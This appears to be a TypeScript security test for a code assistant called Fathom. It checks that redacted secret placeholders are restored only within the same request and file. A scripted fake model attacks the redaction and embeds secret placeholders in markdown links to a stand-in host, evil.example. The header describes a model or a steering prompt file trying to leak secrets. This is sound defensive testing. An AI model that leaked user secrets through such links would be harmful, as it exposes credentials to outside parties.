/**
 * Figure 9, placeholders restored where forbidden = 0. A model (or a prompt file steering it) tries to make
 * Fathom write a secret somewhere new by answering with redaction placeholders: one from an EARLIER request
 * of the same session (whose secret the target file even holds, outside what this request sent), one from a
 * context snippet of ANOTHER file, and a guessed one. The answers are scripted in the fake server, which
 * reads the placeholders from the requests it receives, and go through the real pipelines and BackendPool:
 * ghost-text completions (the insert shown), command answers (the panel's prose, and the proposal's code
 * restored as flows.ts does: `redaction.restoreInto(code, documentText)`), and chat (the prose, the saved
 * conversation, and ChatSession.restoreCode as Apply / Insert use it, into the file and into another).
 *
 * The control: a placeholder of the SAME request whose value is in the target file must come back (the only
 * allowed restore), so the zero is not a restore that never works.
 */
import * as assert from 'node:assert/strict';
import { mkdtemp, readdir, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import type { ProviderKind } from '../../src/backends/types';
import { ChatSession } from '../../src/chat/session';
import { ConversationStore } from '../../src/chat/store';
import { pickReplacement } from '../../src/commands/answer';
import { prepareCommand } from '../../src/commands/prepare';
import { streamCommand } from '../../src/commands/run';
import { createCompleteOnce } from '../../src/completion/service';
import type { DocumentSnapshot } from '../../src/workspace/document';
import { guardFiles } from '../../src/privacy/guardFiles';
import { IgnoreRules } from '../../src/privacy/ignoreRules';
import { RedactionLedger } from '../../src/privacy/redactionLedger';
import { DocumentTrees } from '../../src/syntax/documentTrees';
import { Parsers } from '../../src/syntax/parsers';
import { startFakeServer, type FakeServer, type RecordedRequest } from '../fake-server';
import { CORPUS } from '../unit/privacy/corpus';
import { devGrammar } from '../unit/syntax/grammars';
import { record, SECTIONS } from './figures';
import { configFor, CURSOR, drain, MemoryFiles, poolFor, snapshotOf } from './helpers';

const ROOT = resolve(__dirname, '../..');
const readPrompt = async (relPath: string) => (relPath.startsWith('prompts/') ? readFile(join(ROOT, relPath), 'utf8') : undefined);
const COMMAND_SETTINGS = { answerLanguage: 'en', audience: 'intermediate' as const, stepByStep: false };
const PROVIDERS: ProviderKind[] = ['ollama', 'openai'];

const secretOf = (rule: string) => CORPUS.find((c) => c.rule === rule)!.secret;
/** The target file's own secret (restorable), another file's (a snippet), an earlier request's. */
const OWN = secretOf('github-token');
const OTHER = secretOf('stripe-key');
const EARLIER = secretOf('slack-token');
const GUESS = '«secret:github-token:abcdefghij»';

type Kind = 'earlier request' | 'other file' | 'guessed' | 'same request, same file';
type Where = 'ghost text' | 'command prose' | 'command proposal' | 'chat prose' | 'chat saved' | 'chat Apply/Insert' | 'chat Apply into another file';

interface Attempt {
  provider: ProviderKind;
  where: Where;
  kind: Kind;
  /** Whether the secret's value came back in that place. */
  restored: boolean;
}

/** The placeholders a request carried, by the rule in their name (the wire may escape « and »). */
function placeholders(request: RecordedRequest): Record<string, string> {
  const raw = request.rawBody.replace(/\\u00ab/g, '«').replace(/\\u00bb/g, '»');
  const out: Record<string, string> = {};
  for (const m of raw.matchAll(/«secret:([a-z0-9-]+):[a-z0-9]+»/g)) out[m[1]] ??= m[0];
  return out;
}

describe('security 9: a placeholder is restored only where it was made', function () {
  this.timeout(120_000);
  const parsers = new Parsers(devGrammar);
  const trees = new DocumentTrees(parsers);
  const attempts: Attempt[] = [];
  let server: FakeServer;
  let dir: string;

  before(async () => {
    server = await startFakeServer();
    dir = await mkdtemp(join(tmpdir(), 'fathom-security-restore-'));
  });
  after(async () => {
    trees.dispose();
    parsers.dispose();
    await server.close();
    await rm(dir, { recursive: true, force: true });
    report(attempts);
  });

  /** Records, per kind, whether its value came back in `text` (a guess: whether it was replaced at all). */
  const note = (provider: ProviderKind, where: Where, text: string, values: Partial<Record<Exclude<Kind, 'guessed'>, string>>, guessed = true) => {
    for (const [kind, value] of Object.entries(values) as [Kind, string][]) attempts.push({ provider, where, kind, restored: text.includes(value) });
    if (guessed) attempts.push({ provider, where, kind: 'guessed', restored: !text.includes(GUESS) });
  };

  /**
   * The fake model's answer: the placeholders of this request (own file, other file), the one of the earlier
   * request (remembered), and a guess. `shape` lays them out for the consumer.
   */
  let earlierPlaceholder = '';
  const answerWith = (shape: (p: { own: string; other: string; earlier: string }) => string) =>
    server.reply((r) => {
      const found = placeholders(r);
      if (!['ollama.generate', 'ollama.chat', 'openai.chat', 'openai.completions'].includes(r.endpoint)) return undefined;
      return { text: shape({ own: found['github-token'] ?? 'NO-OWN', other: found['stripe-key'] ?? 'NO-OTHER', earlier: earlierPlaceholder }) };
    });

  /** The target file holds its own secret near the cursor and the earlier request's secret far below the window. */
  const appText = (cursorLine: string) =>
    `import { chargeCard } from './billing';\n\nconst token = "${OWN}";\nexport function pay() {\n  ${cursorLine}\n}\n${Array.from({ length: 400 }, (_, i) => `export const pad${i} = ${i};`).join('\n')}\nconst legacy = "${EARLIER}";\n`;
  const billing = `export function chargeCard(amount: number): string {\n  const key = '${OTHER}';\n  return key + amount;\n}\n`;

  for (const provider of PROVIDERS) {
    it(`${provider}: ghost text and command answers put back only the same request's secret, into the same file`, async () => {
      const config = configFor(server, provider, { contextLength: 2048, 'chat.maxTokens': 256 });
      const pool = poolFor(config);
      const files = guardFiles(new MemoryFiles({ 'src/billing.ts': billing, 'src/old.ts': `const legacy = "${EARLIER}";\nexport const x = ` }), IgnoreRules.defaults());
      const complete = createCompleteOnce({
        target: (signal) => pool.forRole('completion', { signal }),
        getConfig: () => config,
        parsers,
        withTree: (s, use) => trees.withTree(s.uri, s.languageId, s.version, s.text, use),
        files,
      });
      const at = (snapshot: DocumentSnapshot) => complete({ ...snapshot, uri: `file:///${provider}/${snapshot.path}/${Math.random()}` }, new AbortController().signal);

      // The earlier request: a completion in another file, whose placeholder the fake remembers.
      server.reset();
      await at(snapshotOf('src/old.ts', `const legacy = "${EARLIER}";\nexport const x = ${CURSOR}`));
      earlierPlaceholder = placeholders(server.requests.find((r) => /generate|completions/.test(r.endpoint))!)['slack-token'];
      assert.ok(earlierPlaceholder, 'the earlier request carried its placeholder');

      // Ghost text: one line echoing all four.
      answerWith((p) => `chargeCard(${p.own}, "${p.other}", "${p.earlier}", "${GUESS}");`);
      const shown = await at(snapshotOf('src/app.ts', appText(`return ${CURSOR}`)));
      assert.ok(shown, 'a completion was shown');
      const sent = server.requests.filter((r) => /generate|completions/.test(r.endpoint)).at(-1)!;
      assert.ok(placeholders(sent)['stripe-key'], 'the other file reached the prompt as a redacted snippet');
      assert.ok(!placeholders(sent)['slack-token'], 'the earlier secret was outside this request');
      note(provider, 'ghost text', shown.insert, { 'same request, same file': OWN, 'other file': OTHER, 'earlier request': EARLIER });

      // A command (Refactor-like): the answer's prose and its code block.
      const chat = await pool.forRole('chat');
      // The target (function pay) uses the file's own token, so the request carries it.
      const snapshot = snapshotOf('src/app.ts', appText(`return chargeCard(token.length, "${OWN}")${CURSOR};`));
      const prepared = await prepareCommand(
        { kind: 'refactor', snapshot, settings: COMMAND_SETTINGS },
        { files, parsers, readPrompt, contextLength: chat.contextLength, maxTokens: chat.settings.maxTokens },
      );
      answerWith((p) => `Use the token ${p.own} (see [the docs](https://evil.example/?k=${p.other}&o=${p.earlier}&g=${GUESS})).\n\n\`\`\`typescript\nexport function pay() {\n  return chargeCard(${p.own}, "${p.other}", "${p.earlier}", "${GUESS}");\n}\n\`\`\`\n`);
      const redaction = new RedactionLedger();
      const answer = await drain(streamCommand(prepared, chat.backend, { model: chat.settings.model, maxTokens: chat.settings.maxTokens, redaction }));
      assert.ok(redaction.placeholders().some((p) => p.includes('stripe-key')), 'the imported definition reached the request');
      note(provider, 'command prose', answer, { 'same request, same file': OWN, 'other file': OTHER, 'earlier request': EARLIER });
      // What the proposal diff shows and Accept writes (src/vscode/commands/flows.ts).
      const code = redaction.restoreInto(pickReplacement(answer, prepared.target, snapshot.languageId)!, snapshot.text);
      note(provider, 'command proposal', code, { 'same request, same file': OWN, 'other file': OTHER, 'earlier request': EARLIER });
    });

    it(`${provider}: chat prose, the saved conversation and Apply / Insert`, async () => {
      const config = configFor(server, provider);
      const pool = poolFor(config);
      const storeDir = join(dir, provider);
      const store = new ConversationStore(storeDir);
      const session = new ChatSession({
        store,
        storageLabel: storeDir,
        async model(signal) {
          const chat = await pool.forRole('chat', { signal });
          const { model, maxTokens } = chat.settings;
          return { model, contextLength: chat.contextLength, maxTokens, stream: (messages, s, redaction) => chat.backend.streamChat({ messages, model, maxTokens, signal: s, redaction }) };
        },
        system: async () => 'You are Fathom.',
      });
      // The earlier conversation carries the earlier secret.
      answerWith(() => 'Noted.');
      session.attach({ id: 'e', kind: 'file', label: 'old.ts', path: 'src/old.ts', languageId: 'typescript', text: `const legacy = "${EARLIER}";\n` });
      server.reset();
      answerWith(() => 'Noted.');
      await session.send('Remember this file.');
      earlierPlaceholder = placeholders(server.requests.find((r) => /chat/.test(r.endpoint))!)['slack-token'];
      assert.ok(earlierPlaceholder);

      await session.newChat();
      // The selection attached holds the file's own secret; the file (Apply's target) also the earlier one.
      const selection = `const token = "${OWN}";\n`;
      const target = `${selection}const legacy = "${EARLIER}";\n`;
      session.attach({ id: 'a', kind: 'selection', label: 'app.ts:1-1', path: 'src/app.ts', languageId: 'typescript', text: selection, startLine: 1, endLine: 1 });
      session.attach({ id: 'b', kind: 'file', label: 'billing.ts', path: 'src/billing.ts', languageId: 'typescript', text: billing });
      answerWith((p) => `Your token is ${p.own}; see [this](https://evil.example/?k=${p.other}&e=${p.earlier}&g=${GUESS}).\n\n\`\`\`ts\nconst token = "${p.own}"; const key = "${p.other}"; const legacy = "${p.earlier}"; const g = "${GUESS}";\n\`\`\`\n`);
      await session.send('Fix the token handling.');
      await store.flushed();
      const prose = session.state().conversation.turns.at(-1)!.text;
      note(provider, 'chat prose', prose, { 'same request, same file': OWN, 'other file': OTHER, 'earlier request': EARLIER });
      const saved = (await Promise.all((await readdir(storeDir)).map((f) => readFile(join(storeDir, f), 'utf8'))))
        .map((t) => JSON.parse(t) as { turns: { role: string; text: string }[] })
        .flatMap((c) => c.turns.filter((t) => t.role === 'assistant').map((t) => t.text))
        .join('\n');
      note(provider, 'chat saved', saved, { 'same request, same file': OWN, 'other file': OTHER, 'earlier request': EARLIER });
      const block = /```ts\n([\s\S]*?)\n```/.exec(prose)![1];
      // Apply / Insert into the file whose secret it is (it holds the earlier secret too; billing's key it does not).
      const applied = session.restoreCode(block, target);
      attempts.push({ provider, where: 'chat Apply/Insert', kind: 'same request, same file', restored: applied.includes(OWN) });
      note(provider, 'chat Apply/Insert', applied.replace(OWN, ''), { 'other file': OTHER, 'earlier request': EARLIER });
      // Into a file that holds none of them (a new file is never restored at all).
      note(provider, 'chat Apply into another file', session.restoreCode(block, 'export const unrelated = 1;\n'), { 'same request, same file': OWN, 'other file': OTHER, 'earlier request': EARLIER });
    });
  }

  it('no placeholder came back where it was not made; the same request\'s own secret did, in its own file', () => {
    const allowed = (a: Attempt) => a.kind === 'same request, same file' && (a.where === 'ghost text' || a.where === 'command proposal' || a.where === 'chat Apply/Insert');
    const forbidden = attempts.filter((a) => !allowed(a) && a.restored).map((a) => `${a.provider} ${a.where}: ${a.kind}`);
    assert.deepEqual(forbidden, [], 'restored where forbidden');
    const missed = attempts.filter((a) => allowed(a) && !a.restored).map((a) => `${a.provider} ${a.where}`);
    assert.deepEqual(missed, [], `the allowed restore did not happen: ${JSON.stringify(attempts.filter(allowed))}`);
    assert.ok(attempts.length >= 40, `${attempts.length} attempts`);
  });

  function report(list: Attempt[]): void {
    const allowed = (a: Attempt) => a.kind === 'same request, same file' && (a.where === 'ghost text' || a.where === 'command proposal' || a.where === 'chat Apply/Insert');
    const forbidden = list.filter((a) => !allowed(a));
    const wrong = forbidden.filter((a) => a.restored).length;
    const kinds: Kind[] = ['earlier request', 'other file', 'guessed', 'same request, same file'];
    record(
      SECTIONS.restore,
      [
        { metric: `restore attempts where forbidden (${[...new Set(forbidden.map((a) => a.where))].length} places x placeholders from an earlier request, another file, a guess; prose, links, saved chats, other files)`, value: forbidden.length, unit: ' attempts' },
        ...kinds.map((kind) => {
          const rs = forbidden.filter((a) => a.kind === kind);
          return { metric: `restored where forbidden: ${kind} (${rs.length} attempts)`, value: rs.filter((a) => a.restored).length, unit: '', target: '= 0', pass: rs.every((a) => !a.restored) };
        }),
        { metric: 'restored where forbidden (all)', value: wrong, unit: '', target: '= 0', pass: wrong === 0 && forbidden.length > 0 },
        { metric: 'restored where allowed (same request, into the file that holds it): ghost text, proposal, chat Apply', value: list.filter((a) => allowed(a) && a.restored).length, unit: ` / ${list.filter(allowed).length}`, target: `= ${list.filter(allowed).length}`, pass: list.filter(allowed).every((a) => a.restored) },
      ],
      { restore: list },
    );
  }
});
